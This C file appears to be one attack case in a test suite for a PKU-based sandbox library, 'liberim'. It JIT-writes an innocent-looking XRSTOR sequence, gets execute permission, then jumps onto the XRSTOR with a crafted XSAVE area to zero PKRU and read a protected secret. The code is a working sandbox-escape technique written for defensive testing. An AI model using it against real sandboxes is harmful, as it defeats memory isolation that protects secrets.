/* SPDX-License-Identifier: MIT */
/* atk_jit_xrstor.c: untrusted code JIT-compiles an XRSTOR that looks harmless
 * (`mov eax, 0; xor edx, edx; xrstor [rdi]; ret`: EAX bit 9 clear, so in order
 * it never loads PKRU) and asks for execute permission; once granted it jumps
 * past the mov, straight onto the XRSTOR, with EAX = 0x200 and RDI pointing at
 * an XSAVE area whose PKRU is 0, and reads the secret.  An XRSTOR followed by
 * liberim's own check of EAX bit 9 is asked for too (pkey_mprotect): memory
 * made executable at run time holds no XRSTOR at all, in any form.  Where the
 * CPU has no PKU the attack counts as succeeded when the grant is accepted. */
#include "atk_common.h"

static int pkru_offset(void)
{
	uint32_t a, b, c, d;

	__asm__ volatile("cpuid" : "=a"(a), "=b"(b), "=c"(c), "=d"(d) : "a"(0xd), "c"(0));
	if (!(a & (1u << 9)))
		return -1;
	__asm__ volatile("cpuid" : "=a"(a), "=b"(b), "=c"(c), "=d"(d) : "a"(0xd), "c"(9));
	return b >= 576 && b < 8192 ? (int)b : -1;
}

/* Jump onto the XRSTOR at SITE (it returns with ret) with EAX = 0x200. */
__attribute__((noinline)) static void jump_onto(const uint8_t *site, uint8_t *area)
{
	__asm__ volatile("lea -128(%%rsp), %%rsp\n\t"
	                 "call *%[f]\n\t"
	                 "lea 128(%%rsp), %%rsp"
	                 : : [f] "r"(site), "a"(0x200), "d"(0), "D"(area)
	                 : "rcx", "rsi", "r8", "r9", "r10", "r11", "memory", "cc");
}

static enum atk_result atk_attack(void)
{
	static const uint8_t benign[] = { 0xb8, 0x00, 0x00, 0x00, 0x00,   /* mov eax, 0 */
	                                  0x31, 0xd2,                     /* xor edx, edx */
	                                  0x0f, 0xae, 0x2f,               /* xrstor [rdi] */
	                                  0xc3 };                         /* ret */
	static const uint8_t checked[] = { 0x0f, 0xae, 0x2f,              /* xrstor [rdi] */
	                                   0xf6, 0xc4, 0x02, 0x74, 0x0e,  /* test ah, 2; jz +14 */
	                                   0xbf, 107, 0, 0, 0,            /* mov edi, 107 */
	                                   0xb8, 0xe7, 0, 0, 0,           /* mov eax, 231 */
	                                   0x0f, 0x05, 0xeb, 0xfe,        /* syscall; jmp . */
	                                   0xc3 };
	uint8_t *p = mmap(NULL, 2 * 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int won = 0;

	if (p == MAP_FAILED)
		return ATK_ERROR;
	memcpy(p, benign, sizeof benign);
	memcpy(p + 4096, checked, sizeof checked);
	if (syscall(SYS_pkey_mprotect, p + 4096, 4096, PROT_READ | PROT_EXEC, -1) == 0) {
		atk_say("pkey_mprotect(RX) of an XRSTOR followed by the EAX bit 9 check accepted");
		won = 1;
	} else {
		atk_say("pkey_mprotect(RX) of a checked XRSTOR: %s", strerror(errno));
	}
	if (mprotect(p, 4096, PROT_READ | PROT_EXEC) != 0) {
		atk_say("mprotect(RX) of `mov eax, 0; xor edx, edx; xrstor [rdi]`: %s", strerror(errno));
		return won ? ATK_SUCCEEDED : ATK_REFUSED;
	}
	atk_say("mprotect(RX) of `mov eax, 0; xor edx, edx; xrstor [rdi]` accepted");
	int off = pkru_offset();
	if (atk_pkey <= 0 || off < 0)
		return ATK_SUCCEEDED;   /* no keys here: the grant itself is the hole */
	uint8_t *area = aligned_alloc(64, 16384);
	if (!area)
		return ATK_ERROR;
	memset(area, 0, 16384);
	uint32_t mxcsr = 0x1f80;
	uint64_t bv = 1ull << 9;
	memcpy(area + 24, &mxcsr, 4);
	memcpy(area + 512, &bv, 8);                 /* XSTATE_BV: PKRU, value 0 */
	jump_onto(p + 7, area);                     /* past the mov: EAX = 0x200 */
	uint32_t pkru = atk_rdpkru();
	atk_say("after the jump onto the XRSTOR: PKRU = %#x", pkru);
	if (!(pkru & (3u << (2 * atk_pkey))) && atk_secret[0] == ATK_SECRET_BYTE) {
		atk_say("untrusted code read the secret");
		won = 1;
	}
	atk_untrusted();
	return won ? ATK_SUCCEEDED : ATK_REFUSED;
}

static const char *atk_name = "atk_jit_xrstor";
static int atk_needs_pku = 0;
